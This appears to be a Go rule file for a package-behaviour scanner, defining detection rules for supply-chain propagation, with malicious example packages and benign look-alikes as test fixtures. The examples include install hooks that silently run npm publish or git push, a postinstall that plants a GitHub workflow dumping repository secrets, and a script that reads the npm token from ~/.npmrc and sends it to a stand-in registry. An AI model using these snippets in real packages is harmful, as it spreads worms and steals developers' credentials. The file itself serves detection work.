package rule

import b "taisei/detect/behaviour"

// propagation: what runs on one machine makes its way to others, with the
// authority of whoever works there.
func propagation() []Rule {
	unaware := []string{b.Install, b.Import, b.Load}
	return []Rule{
		{
			ID: "package_published", Severity: Critical,
			When: []Condition{{Triggers: unaware, Sinks: []string{b.Publish}, Script: No}},
			Examples: []Example{
				Package("by the package manager", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const {execSync}=require('child_process');for(const p of ['a.tgz','b.tgz'])execSync('npm publish '+p)"}),
				Package("word by word", `"main":"i.js"`, map[string]string{"i.js": "require('child_process').spawnSync('npm',['publish','--access','public'],{cwd:'/tmp/x'})"}),
				Package("to another ecosystem", `"scripts":{"postinstall":"python -m twine upload dist/*"}`, nil),
				Package("by pushing a commit", `"scripts":{"preinstall":"git add -A && git commit -m x && git push origin HEAD"}`, nil),
			},
			Neighbours: []Example{
				Package("a release, by a command", `"scripts":{"release":"npm version patch && npm publish && git push --follow-tags"}`, nil),
				Package("a tool for releases", `"main":"i.js"`, map[string]string{"i.js": "const {execSync}=require('child_process');exports.release=()=>execSync('npm publish')"}),
				One("a script for releases", "release.sh", "npm version patch\nnpm publish\ngit push --follow-tags\n"),
				Package("what it would be", `"scripts":{"postinstall":"echo npm publish"}`, nil),
			},
		},
		{
			ID: "workflow_written", Severity: High,
			When:   []Condition{{Triggers: []string{b.Install}, Sinks: []string{b.File}, Target: Workflow}},
			Graver: []Condition{{Sources: []string{b.Blob, b.Download}}},
			Examples: []Example{
				Package("into the user's repository", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const fs=require('fs'),path=require('path');const d=path.join(process.env.INIT_CWD,'.github','workflows');fs.mkdirSync(d,{recursive:true});fs.writeFileSync(path.join(d,'check.yml'),'on: push\\njobs:\\n  a:\\n    runs-on: self-hosted\\n    steps:\\n      - run: echo ${{ toJSON(secrets) }} | base64\\n')"}),
				One("by an installer", "install.sh", "mkdir -p .github/workflows\ncat > .github/workflows/x.yml <<'EOF'\non: push\nEOF\n"),
			},
			Neighbours: []Example{
				Package("when asked to", `"bin":"i.js"`, map[string]string{"i.js": "#!/usr/bin/env node\nrequire('fs').writeFileSync('.github/workflows/ci.yml','on: push')"}),
				Package("by one of the commands that it offers", `"main":"i.js"`, map[string]string{"i.js": "const {Command}=require('commander');const p=new Command();p.command('init').action(()=>require('fs').writeFileSync('.github/workflows/ci.yml','on: push'));p.parse()"}),
				Package("another file", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "require('fs').writeFileSync('.github/FUNDING.yml','custom: x')"}),
			},
		},
		{
			ID: "login_used", Severity: High,
			When: []Condition{{Triggers: []string{b.Install}, Sources: []string{b.Credential}, Name: FilePath, Sinks: []string{b.Network}, Slots: []string{"auth"}, Target: Foreign}},
			Examples: []Example{
				Package("npm's token", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const fs=require('fs'),os=require('os');const t=/_authToken=(.*)/.exec(fs.readFileSync(os.homedir()+'/.npmrc','utf8'))[1];fetch('https://registry.example/a-package',{method:'PUT',headers:{authorization:'Bearer '+t},body:'{}'})"}),
			},
			Neighbours: []Example{
				Package("when called", `"main":"i.js"`, map[string]string{"i.js": "const fs=require('fs'),os=require('os');exports.put=()=>fetch('https://registry.example/a-package',{method:'PUT',headers:{authorization:'Bearer '+fs.readFileSync(os.homedir()+'/.npmrc','utf8')}})"}),
				Package("a token that the user set for it", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "fetch('https://registry.example/tool.tgz',{headers:{authorization:'Bearer '+process.env.TOOL_TOKEN}})"}),
			},
		},
	}
}
